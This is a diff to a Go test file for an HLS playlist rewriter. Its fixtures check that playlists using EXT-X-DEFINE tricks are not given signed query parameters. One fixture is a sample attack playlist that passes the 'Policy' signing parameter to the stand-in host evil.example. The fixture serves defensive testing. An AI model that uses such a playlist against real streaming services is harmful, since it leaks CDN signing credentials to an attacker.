@@ -1,6 +1,7 @@
 package playlist
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
@@ -56,7 +57,7 @@ func TestRewriteUnsafePlaylists(t *testing.T) {
 		{"define in a quoted value", `#EXT-X-SESSION-DATA:DATA-ID="x",VALUE="#EXT-X-DEFINE:NAME=\"h\""` + "\n"},
 		{"define in an indented comment", "  # x #EXT-X-DEFINE:NAME=\"h\",VALUE=\"a\"\n"},
 		{"define after a segment URI", "a.ts#EXT-X-DEFINE:NAME=\"h\",VALUE=\"a\"\n"},
-		{"define on an EXTINF line", "#EXTINF:4,#EXT-X-DEFINE:NAME=\"h\",VALUE=\"a\"\na.ts\n"},
+		{"define after a tag's attributes", "#EXT-X-I-FRAME-STREAM-INF:BANDWIDTH=1,URI=\"i.m3u8\" #EXT-X-DEFINE:NAME=\"h\",VALUE=\"a\"\n"},
 		{"query parameter Policy", `#EXT-X-DEFINE:QUERYPARAM="Policy"` + "\n#EXTINF:4,\nhttps://evil.example/s?p={$Policy}\n"},
 		{"query parameter in any case", `#EXT-X-DEFINE:QUERYPARAM="key-pair-id"` + "\n"},
 		{"query parameter from Carry", `#EXT-X-DEFINE:QUERYPARAM="Policy-PREFIX"` + "\n"},
@@ -81,8 +82,15 @@ func TestRewriteUnsafePlaylists(t *testing.T) {
 			assert.Equal(t, tt.in, got)
 		})
 	}
+	// hls.js reads a media playlist line by line: a tag inside a comment
+	// there is only a comment.
+	media := "#EXTINF:4,#EXT-X-DEFINE:NAME=\"h\",VALUE=\"a\"\na.ts\n# #EXT-X-DEFINE:NAME=\"g\",VALUE=\"b\"\n"
+	got, err := rewriteString(t, creds, media)
+	require.NoError(t, err)
+	assert.Equal(t, strings.Replace(media, "a.ts", "a.ts?Q=1", 1), got)
+
 	steer := &Rewriter{Base: creds.Base, Query: "Q=1", AllowSteering: true}
-	got, err := rewriteString(t, steer, `#EXT-X-CONTENT-STEERING:SERVER-URI="/s.json"`+"\n")
+	got, err = rewriteString(t, steer, `#EXT-X-CONTENT-STEERING:SERVER-URI="/s.json"`+"\n")
 	require.NoError(t, err)
 	assert.Equal(t, `#EXT-X-CONTENT-STEERING:SERVER-URI="/s.json?Q=1"`+"\n", got, "AllowSteering")
 }
